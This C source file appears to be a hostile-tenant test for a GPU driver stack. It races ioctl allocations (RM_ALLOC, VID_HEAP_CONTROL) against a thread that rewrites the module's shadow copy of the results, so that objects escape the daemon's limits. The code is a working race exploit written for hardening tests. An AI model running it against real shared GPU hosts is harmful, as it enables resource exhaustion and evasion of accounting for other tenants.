// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile tenant rewriting the results the driver leaves in the module's
 * shadow of its params (tests/vm/hostile, issue 10 item 7).
 *
 *   attack_shadow FD CLIENT PARENT SIZE MIN_S MAX_S ATTEMPTS [generated] [groups]
 *
 * One thread allocates SIZE bytes of video memory under fresh handles of its
 * own (with "generated": under handles the driver generates, hObjectNew 0 and
 * no MEMORY_HANDLE_PROVIDED, so that the new handle exists only in the
 * results), alternately with RM_ALLOC (NVOS21, NV01_MEMORY_LOCAL_USER) and with
 * VID_HEAP_CONTROL ALLOC_SIZE (NVOS32); with "groups", channel groups
 * (RM_ALLOC of KEPLER_CHANNEL_GROUP_A under PARENT, a device), which the
 * daemon counts against an object limit. It keeps what it gets (a call whose
 * results came back rewritten may have made its object too); when refused
 * it frees the oldest object it holds. Another thread finds the shadow (a
 * page of its own anonymous mappings that begins with its params, as the
 * module copied them there) and, whenever the driver has written a status
 * of 0 there,
 * writes NV_ERR_NO_MEMORY over it and PARENT's handle over the new handle,
 * before the module reads the results back. A handle so rewritten before
 * the driver reads it names a taken handle, so the driver refuses the call:
 * the race is on the results only.
 * It runs for at least MIN_S seconds and ATTEMPTS calls (at most MAX_S s),
 * then prints "attempts N ok N failed N hits N found N faults N" (faults:
 * the rewriter's SIGSEGV/SIGBUS, a write refused or a page gone).
 */
#include <pthread.h>
#include <stdlib.h>
#include <sys/ioctl.h>

#include "attack.h"

#define NV_ERR_NO_MEMORY	0x51
#define KEPLER_CHANNEL_GROUP_A	0xa06c
#define HANDLE_PROVIDED		0x4000
#define MAX_HELD		4096

/* NVOS32 with its AllocSize member (184 bytes). */
struct nvos32 {
	uint32_t h_root, h_parent, function, h_va_space;
	int16_t ivc;
	uint16_t pad0;
	uint32_t status;
	uint64_t total, free;
	uint32_t owner, h_memory, type, flags, attr, format, compr, zcull, stride;
	uint32_t width, height, pad1;
	uint64_t size, alignment, offset, limit, address, begin, end;
	uint32_t attr2, ctag;
	int32_t numa;
	uint32_t pad2;
	unsigned char rest[24];	/* the union is 144 bytes (HwAlloc's) */
};

_Static_assert(sizeof(struct nvos32) == 184, "NVOS32 is 184 bytes");

static atomic_int stop;
static uint32_t alloc_class;	/* what RM_ALLOC makes: 0x40 or a channel group */
static atomic_int kind;		/* 21 or 32: the call in flight */
static atomic_int called;	/* a call has been made: the shadow exists */
static uint32_t client;		/* CLIENT */
static uint32_t taken;		/* PARENT: a handle that exists */
static atomic_ulong hits, faults;
static struct shadows sh;

/*
 * hRoot, hObjectParent, then the class (NVOS21) or function ALLOC_SIZE
 * (NVOS32): the params as the module copied them.
 */
static int is_params(volatile uint32_t *p)
{
	return p[0] == client && p[1] == taken && (p[3] == alloc_class || p[2] == 2);
}

static void *rewriter(void *arg)
{
	static unsigned long scans;

	(void)arg;
	if (sigsetjmp(lost, 1)) {
		atomic_fetch_add(&faults, 1);
		atomic_store(&sh.n, 0);
	}
	armed = 1;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		int i, n = atomic_load_explicit(&sh.n, memory_order_relaxed);
		int k = atomic_load_explicit(&kind, memory_order_relaxed);

		if (!atomic_load_explicit(&called, memory_order_relaxed))
			continue;
		if (!(++scans & 0xfffff) || !n)
			find_shadows(&sh, is_params, NULL);
		for (i = 0; i < n; i++) {
			volatile uint32_t *p = (volatile uint32_t *)sh.page[i];
			unsigned int st = k == 21 ? 7 : 5, h = k == 21 ? 2 : 11;

			if (p[st] == 0) {
				p[st] = NV_ERR_NO_MEMORY;
				p[h] = taken;
				atomic_fetch_add_explicit(&hits, 1, memory_order_relaxed);
			}
		}
	}
	armed = 0;
	return NULL;
}

int main(int argc, char **argv)
{
	unsigned char mem[128] __attribute__((aligned(8)));
	unsigned long attempts = 0, ok = 0, failed = 0, want;
	static uint32_t held[MAX_HELD];
	unsigned int n_held = 0, first = 0;
	uint32_t parent, h, got;
	double start, min_s, max_s;
	struct nvos21 a;
	struct nvos32 v;
	struct nvos00 fr;
	uint64_t size;
	pthread_t t;
	int fd, rc, gen, groups, i;

	if (argc < 8)
		return 2;
	fd = atoi(argv[1]);
	parent = strtoul(argv[3], NULL, 0);
	taken = parent;
	size = strtoull(argv[4], NULL, 0);
	min_s = atof(argv[5]);
	max_s = atof(argv[6]);
	want = strtoul(argv[7], NULL, 0);
	gen = groups = 0;
	for (i = 8; i < argc; i++) {
		if (!strcmp(argv[i], "generated"))
			gen = 1;
		else if (!strcmp(argv[i], "groups"))
			groups = 1;
		else
			return 2;	/* not a mode of ours */
	}
	alloc_class = groups ? KEPLER_CHANNEL_GROUP_A : 0x40;

	client = strtoul(argv[2], NULL, 0);
	catch_faults();
	if (pthread_create(&t, NULL, rewriter, NULL))
		return 1;
	start = now();
	for (;;) {
		double el = now() - start;

		if (el >= max_s || (el >= min_s && attempts >= want))
			break;
		h = gen ? 0 : 0xA0000000u + attempts;
		if ((attempts & 1) && !groups) {
			memset(&v, 0, sizeof(v));
			v.h_root = client;
			v.h_parent = parent;
			v.function = 2;	/* ALLOC_SIZE */
			v.status = 0xffffffffu;
			v.h_memory = h;
			v.flags = gen ? 0 : HANDLE_PROVIDED;
			v.size = size;
			atomic_store(&kind, 32);
			rc = ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_VID_HEAP, struct nvos32), &v);
			rc = rc || v.status;
			got = v.h_memory;
		} else {
			memset(mem, 0, sizeof(mem));
			if (!groups)	/* NV_MEMORY_ALLOCATION_PARAMS.size */
				*(uint64_t *)(mem + 64) = size;
			memset(&a, 0, sizeof(a));
			a.h_root = client;
			a.h_parent = parent;
			a.h_new = h;
			a.h_class = alloc_class;
			a.p_alloc_parms = (uintptr_t)mem;
			/* NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS: 20 bytes, all 0 */
			a.params_size = groups ? 20 : sizeof(mem);
			a.status = 0xffffffffu;
			atomic_store(&kind, 21);
			rc = ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_ALLOC, struct nvos21), &a);
			rc = rc || a.status;
			got = a.h_new;
		}
		attempts++;
		atomic_store(&called, 1);
		/*
		 * Whatever the status says, an object whose results came back
		 * rewritten (the new handle is PARENT's) may exist: that is the
		 * attack. Keep its handle; it is freed in its turn. A handle
		 * the driver generated is lost with the rewrite: that object
		 * stays.
		 */
		if (gen && !rc)
			h = got;
		if ((!rc || (got == taken && !gen)) && n_held - first < MAX_HELD)
			held[n_held++ % MAX_HELD] = h;
		if (!rc) {
			ok++;
			continue;
		}
		failed++;
		if (got == taken)
			continue;	/* rewritten, not refused */
		/* Refused: free the oldest handle kept. */
		if (n_held - first > 0) {
			fr = (struct nvos00){ client, parent, held[first++ % MAX_HELD], 0 };
			ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_FREE, struct nvos00), &fr);
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("attempts %lu ok %lu failed %lu hits %lu found %lu faults %lu\n", attempts, ok,
	       failed, (unsigned long)atomic_load(&hits), (unsigned long)atomic_load(&sh.found),
	       (unsigned long)atomic_load(&faults));
	return 0;
}
